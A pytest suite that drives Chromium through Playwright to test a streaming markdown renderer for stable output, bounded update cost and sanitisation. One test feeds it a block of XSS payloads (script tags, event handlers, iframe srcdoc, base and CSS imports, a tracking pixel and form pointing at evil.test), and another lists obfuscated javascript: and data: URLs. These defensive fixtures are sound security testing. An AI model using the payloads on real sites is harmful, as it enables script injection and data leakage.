"""lastevent/markdown in Chromium: the same page however the text came, nothing shown that is taken back, nothing of others."""

import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Request, Route, sync_playwright

from tests.js.bundles import bundled
from tests.js.markdown_texts import ANSWER, NASTY, answer, scrambled
from tests.rig.chromium import ARGS
from tests.rig.long import LONG

pytestmark = pytest.mark.browser

SITE = "http://localhost"
POLICY = "default-src 'none'; script-src 'self'; require-trusted-types-for 'script'; trusted-types 'none'"
STYLE = "table { table-layout: fixed; width: 100% }"
"""The line of docs/CLIENTS.md."""

KB = 1024
SIXTY = 60 * KB


@pytest.fixture(scope="module")
def tab(chromium: str) -> Iterator[Page]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=ARGS)
        yield browser.new_page()
        browser.close()


@pytest.fixture(scope="module")
def page(tab: Page, js: Path) -> Page:
    """A page under the strict policy. It notes what the policy stopped, and no request leaves it."""
    program = bundled(js, "markdown.mjs")

    def serve(route: Route, request: Request) -> None:
        if request.url == f"{SITE}/page.js":
            route.fulfill(body=program, content_type="text/javascript")
        else:
            html = '<!doctype html><meta charset="utf-8"><body><script type="module" src="page.js"></script>'
            route.fulfill(body=html, content_type="text/html", headers={"Content-Security-Policy": POLICY})

    tab.route("**/*", serve)
    tab.add_init_script("""
        window.reports = [];
        addEventListener("securitypolicyviolation", ({ effectiveDirective, sample }) => reports.push(effectiveDirective + sample));
    """)
    tab.goto(SITE)
    tab.wait_for_function("'markdown' in window")
    return tab


def shown(page: Page, text: str) -> str:
    html: str = page.evaluate("(text) => whole(text).innerHTML", text)
    return html


# -- the same page however the text came ----------------------------------------------------------------------------------


def cuts(rng: random.Random, text: str) -> list[int]:
    return sorted(
        rng.sample(range(len(text.encode("utf-16-le", "surrogatepass")) // 2 + 1), k=min(len(text), rng.randint(1, 9)))
    )


def test_any_cuts_of_a_nasty_text_give_the_page_of_the_whole(page: Page) -> None:
    rng = random.Random(1)
    texts = [*NASTY, *(scrambled(rng) for _ in range(6000 if LONG else 150))]
    trials = [[text, how] for text in texts for how in (1, 2, 3, 4, 5, 6, 7, cuts(rng, text))]
    assert page.evaluate("(trials) => differing(trials)", trials) == []


def test_any_cuts_of_an_answer_give_the_page_of_the_whole(page: Page) -> None:
    rng = random.Random(2)
    texts = [ANSWER, *(answer(rng, 1500) for _ in range(200 if LONG else 5))]
    trials = [[text, how] for text in texts for how in (1, 4, 7, 61, cuts(rng, text))]
    assert page.evaluate("(trials) => differing(trials)", trials) == []


def test_any_cuts_of_long_blocks_give_the_page_of_the_whole(page: Page) -> None:
    rng = random.Random(3)
    texts = [text for _ in range(20 if LONG else 1) for text in long_blocks(rng, 6 * KB).values()]
    trials = [[text, how] for text in texts for how in (97, 1500, cuts(rng, text))]
    assert page.evaluate("(trials) => differing(trials)", trials) == []


def test_the_whole_is_what_marked_reads(page: Page) -> None:
    rng = random.Random(4)
    for text in [answer(rng, 2000) for _ in range(200 if LONG else 15)]:
        ours, marked = page.evaluate("(text) => [spaced(whole(text)), asMarked(text)]", text)
        assert ours == marked, text


# -- nothing shown that is taken back ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("size", [1, 4])
def test_no_character_of_an_answer_is_shown_and_taken_back_or_put_in_later(page: Page, size: int) -> None:
    seen = page.evaluate("([text, size]) => takenBack(text, size)", [ANSWER, size])
    assert seen["updates"] > len(ANSWER) / size
    assert (seen["flashes"], seen["inserted"]) == (0, 0)


def test_no_character_of_any_answer_is_shown_and_taken_back(page: Page) -> None:
    rng = random.Random(5)
    for text in [answer(rng, 1500) for _ in range(200 if LONG else 8)]:
        assert page.evaluate("(text) => takenBack(text, 4).flashes", text) == 0, text


def test_what_is_final_is_never_touched_again(page: Page) -> None:
    rng = random.Random(6)
    for text in [ANSWER, *(answer(rng, 1500) for _ in range(50 if LONG else 4))]:
        assert page.evaluate("(text) => touched(text, 5)", text) == 0, text
    texts = [*NASTY, *(scrambled(rng) for _ in range(1000 if LONG else 100))]
    assert page.evaluate("(texts) => texts.filter((text) => touched(text, 1))", texts) == []


def test_with_the_line_of_css_nothing_moves_and_without_it_columns_do(tab: Page, page: Page) -> None:
    text = ANSWER if LONG else ANSWER[: ANSWER.index("> The wait")]
    moved = page.evaluate("(text) => shift(text, 12)", text)
    page.evaluate("(css) => document.adoptedStyleSheets.push(Object.assign(new CSSStyleSheet(), {}))", STYLE)
    page.evaluate("(css) => document.adoptedStyleSheets.at(-1).replaceSync(css)", STYLE)
    assert page.evaluate("(text) => shift(text, 12)", text) == 0
    assert moved > 0


# -- what an update costs ------------------------------------------------------------------------------------------------------


def long_blocks(rng: random.Random, length: int) -> dict[str, str]:
    """One block of so many characters, of each kind that has no bound."""
    words = answer(rng, 2 * KB).replace("\n", " ").replace("|", " ").replace("#", " ").replace("`", " ")
    line = "Some **words** with `code`, [a link](https://ex.com/a_b) and *more*, so that there is something to read"
    lines = length // len(line)
    return {
        "an answer": answer(rng, length),
        "code": "```js\n" + "const x = 1; // **no**\n" * (length // 23),
        "code of one line": "```js\n" + "const x = 1; " * (length // 13),
        "code in a list": "1. See:\n   ```\n" + "   x = 1\n" * (length // 9),
        "a list": f"- {line}\n" * lines,
        "a nested list": "- a\n" + f"  - b\n    - {line}\n" * lines,
        "a quote": f"> {line}\n>\n" * lines,
        "lazy lines": f"> {line}\n" + f"{line}\n" * lines,
        "a table": "| a | b |\n|---|---|\n" + f"| {line} | `c` |\n" * lines,
        "a row": "| a | b |\n|---|---|\n| " + f"{line} " * lines,
        "a paragraph of lines": f"{line}\n" * lines,
        "a paragraph of one line": f"{line} " * lines,
        "a paragraph without spaces": "中文" * (length // 2),
        "one word": "x" * length,
        "emphasis that is never closed": f"**{line.replace('*', '')} " * lines,
        "a bracket that is never closed": "see [" + "one word and another " * (length // 21),
        "a bracket at its beginning": "[" + "one word and another " * (length // 21),
        "definitions": "[a]: https://ex.com\n" * (length // 20),
        "HTML": "<div>\n" + f"{line}\n" * lines,
        "code of spaces": f"    {line}\n" * lines,
        "a heading": "# " + "word " * (length // 5),
        "quotes in quotes": ">" * length,
        "words": words * (length // len(words)),
    }


MOST_LEXED = 16 * KB
MOST_CHANGES = 300


@pytest.mark.parametrize("kind", long_blocks(random.Random(7), KB))
def test_an_update_reads_and_changes_a_bounded_part_of_60_kB(page: Page, kind: str) -> None:
    text = long_blocks(random.Random(7), SIXTY)[kind]
    quarters = page.evaluate("(text) => cost(text, 61)", text)
    assert max(quarter["lexed"] for quarter in quarters) <= MOST_LEXED
    assert max(quarter["changes"] for quarter in quarters) <= MOST_CHANGES


def test_an_update_of_an_answer_reads_and_changes_little_at_60_kB_as_at_3(page: Page) -> None:
    quarters = page.evaluate("(text) => cost(text, 61)", answer(random.Random(8), SIXTY))
    assert max(quarter["lexed"] for quarter in quarters) <= 2 * KB
    assert max(quarter["changes"] for quarter in quarters) <= 50


# -- nothing of others -----------------------------------------------------------------------------------------------------------

SCRIPT = "javascript:window.reports.push(1)"
ADDRESSES = {
    "https://ex.com/a": "https://ex.com/a",
    "HTTP://ex.com": "HTTP://ex.com",
    "mailto:a@b.c": "mailto:a@b.c",
    "#part": "#part",
    "/path?q": "/path?q",
    "/": "/",
    "/&#9;/ex.com": "/&#9;/ex.com",  # nobody decodes it
    **dict.fromkeys(["//ex.com", "/\\ex.com", "\\\\ex.com", "</\t/ex.com>", "path", "./path", "?q", "", "ex.com"]),
    **dict.fromkeys(
        [SCRIPT, SCRIPT.upper(), "<java\tscript:x>", "<\x01javascript:x>", "&#106;avascript:x", "javascript&colon;x"]
    ),
    **dict.fromkeys(
        [
            "jav&#x0A;ascript:x",
            "< javascript:x>",
            "vbscript:x",
            "data:text/html,<script>x</script>",
            "blob:x",
            "file:///x",
        ]
    ),
    **dict.fromkeys(
        [
            "ftp://ex.com",
            "https:ex.com",
            "https:/ex.com",
            "https:\\\\ex.com",
            "view-source:https://ex.com",
            "intent://x",
        ]
    ),
}


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize("form", ["[a]({})", "![a]({})", "[a]: {}\n\n[a]", "[![a]({})](/x)"])
def test_a_link_has_an_address_of_the_web_of_mail_or_of_the_page(page: Page, address: str, form: str) -> None:
    text = form.format(address)
    found = page.evaluate(
        "(text) => [...whole(text).querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.rel])", text
    )
    allowed = "/x" if "(/x)" in form else ADDRESSES[address]
    assert found in ([[allowed, "noopener noreferrer"]] if allowed else [], [])
    if allowed:
        assert found


HOSTILE = f"""
<script>reports.push(1)</script><img src=x onerror="reports.push(1)"><svg onload="reports.push(1)">

<iframe srcdoc="<script>parent.reports.push(1)</script>"></iframe><base href="https://evil.test/">

<div onclick="reports.push(1)" style="background: url(https://evil.test/a)">a</div> <style>@import "https://evil.test/b";</style>

![a](https://evil.test/pixel.png?what=they-said) ![b](x "onerror=reports.push(1)") [c]({SCRIPT}) <{SCRIPT}> [d](data:text/html,x)

[e](https://ex.com" onmouseover="reports.push\\(1\\)) [f](https://ex.com '"><script>reports.push(1)</script>') **<b onclick=x>**

```"><script>reports.push(1)</script>
<script>reports.push(1)</script>
```

``` js" onclick="reports.push(1)
```

| <img src=https://evil.test/c onerror=reports.push(1)> | a |
|---|:-: onclick=x|

- [x" onclick="reports.push(1)] a
- [{SCRIPT}]({SCRIPT})

[g]: {SCRIPT} "onclick"

[g] [g][g] ![g] <a href="{SCRIPT}">a</a> &lt;script&gt;reports.push(1)&lt;/script&gt; <form action="https://evil.test"><button>
"""


def test_hostile_markdown_under_the_strict_policy_does_nothing(tab: Page, page: Page) -> None:
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url))
    page.evaluate(
        "(text) => { window.shown = inPieces(text, 3, undefined, document.body.appendChild(document.createElement('div'))) }",
        HOSTILE,
    )
    page.evaluate("shown.querySelectorAll('*').forEach((element) => element.localName === 'a' || element.click())")
    names, attributes, hrefs = page.evaluate("""() => {
        const all = [...shown.querySelectorAll("*")];
        const names = new Set(all.map(({ localName }) => localName));
        const attributes = new Set(all.flatMap((element) => element.getAttributeNames()));
        return [[...names], [...attributes], all.map((element) => element.getAttribute("href")).filter(Boolean)];
    }""")
    page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    assert set(names) <= {"p", "a", "pre", "code", "ul", "li", "input", "strong", "em", "h2"}
    assert set(attributes) <= {"href", "rel", "title", "class", "type", "disabled", "checked"}
    assert all(href.startswith("https://") for href in hrefs)
    assert asked == []
    assert page.evaluate("reports") == []


def test_html_is_shown_as_it_is_written(page: Page) -> None:
    assert shown(page, "<b>a</b> *c*\n\n<div>\n*d*\n</div>") == (
        "<p>&lt;b&gt;a&lt;/b&gt; <em>c</em></p><p>&lt;div&gt;\n*d*\n&lt;/div&gt;</p>"
    )


# -- one thing each ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("so_far", "what_shows"),
    {
        "see **the": "<p>see <strong>the</strong></p>",
        "see **the *very": "<p>see <strong>the <em>very</em></strong></p>",
        "see **": "<p>see</p>",
        "see `the": "<p>see <code>the</code></p>",
        "see [the": "<p>see the</p>",
        "see [the *text*](https://ex.com/a": "<p>see the <em>text</em></p>",
        "see ![the": "<p>see the</p>",
        "see https://ex.co": "<p>see https://ex.co</p>",
        "see <https://ex.co": "<p>see</p>",
        "5 * 3": "<p>5 * 3</p>",
        "2*3": "<p>2*3</p>",
        "snake_case": "<p>snake_case</p>",
        "a\n=": "<p>a</p>",
        "a\n-": "<p>a</p>",
        "a\n1": "<p>a</p>",
        "#": "",
        "# ": "",
        "# a #": "<h1>a</h1>",
        "-": "",
        "- [": "<ul><li></li></ul>",
        "- [x] ": "<ul><li></li></ul>",
        "- a\n  -": "<ul><li>a</li></ul>",
        "```js": "",
        "```js\na\nb": '<pre><code class="language-js">a\n</code></pre>',
        "| a | b |": "",
        "a | b\n--": "<p>a</p>",
        "| a |\n|---|\n| **b": "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td><strong>b</strong></td></tr></tbody></table>",
        "[a]: /b": "",
        "a\\": "<p>a</p>",
        "AT&am": "<p>AT</p>",
        "a\ud83d": "<p>a</p>",
        "a\r": "<p>a</p>",
        "> a\n>": "<blockquote><p>a</p></blockquote>",
    }.items(),
)
def test_what_may_be_syntax_is_held_back_and_what_is_open_is_closed(page: Page, so_far: str, what_shows: str) -> None:
    html = "(text) => { const at = document.createElement('div'); markdown(at).set(text); return at.innerHTML; }"
    assert page.evaluate(html, so_far) == what_shows


def test_a_list_that_turns_out_loose_stays_as_it_was_shown(page: Page) -> None:
    assert shown(page, "- a\n- b") == "<ul><li>a</li><li>b</li></ul>"
    assert shown(page, "- a\n\n- b\n\n  c") == "<ul><li>a</li><li>b<p>c</p></li></ul>"


def test_a_text_that_does_not_go_on_begins_anew(page: Page) -> None:
    assert page.evaluate("""() => {
        const at = document.createElement("div");
        at.append("before");
        const view = markdown(at);
        const seen = [at.innerHTML];
        for (const text of ["", "**a", "**a**", "- b", "- b", "- bc"]) { view.set(text); seen.push(at.innerHTML); }
        view.end();
        view.end();
        view.set("- bc");
        seen.push(at.innerHTML);
        for (const text of ["- bcd", ""]) { view.set(text); seen.push(at.innerHTML); }
        return seen;
    }""") == [
        *("before", "", "<p><strong>a</strong></p>", "<p><strong>a</strong></p>"),
        *("<ul><li>b</li></ul>", "<ul><li>b</li></ul>", "<ul><li>bc</li></ul>"),
        *("<ul><li>bc</li></ul>", "<ul><li>bcd</li></ul>", ""),
    ]


def test_an_app_may_change_what_is_final(page: Page) -> None:
    assert (
        page.evaluate("""() => {
        const at = document.createElement("div");
        const view = markdown(at);
        view.set("```mermaid\\na\\n```\\n\\n# b\\n\\nc");
        at.querySelector("pre").replaceWith("drawing");
        at.querySelector("h1").after("more");
        view.set("```mermaid\\na\\n```\\n\\n# b\\n\\nc *d*\\n\\n- e");
        view.end();
        return at.innerHTML;
    }""")
        == "drawing<h1>b</h1>more<p>c <em>d</em></p><ul><li>e</li></ul>"
    )


def test_what_is_selected_stays_selected_while_its_text_grows(page: Page) -> None:
    assert (
        page.evaluate("""() => {
        const at = document.body.appendChild(document.createElement("div"));
        const view = markdown(at);
        view.set("some **words**, and mo");
        getSelection().setBaseAndExtent(at.querySelector("strong").firstChild, 0, at.firstChild.lastChild, 5);
        view.set("some **words**, and more of *them*\\n\\nand");
        const selected = String(getSelection());
        at.remove();
        return selected;
    }""")
        == "words, and"
    )


def test_an_apps_own_settings_of_marked_change_nothing(page: Page) -> None:
    # A page of its own: marked has one set of settings for all of a page.
    html: Any = page.evaluate("""() => {
        useMarked({ breaks: true, gfm: false });
        const html = whole("a\\nb ~~c~~").innerHTML;
        useMarked({ breaks: false, gfm: true });
        return html;
    }""")
    assert html == "<p>a\nb <del>c</del></p>"
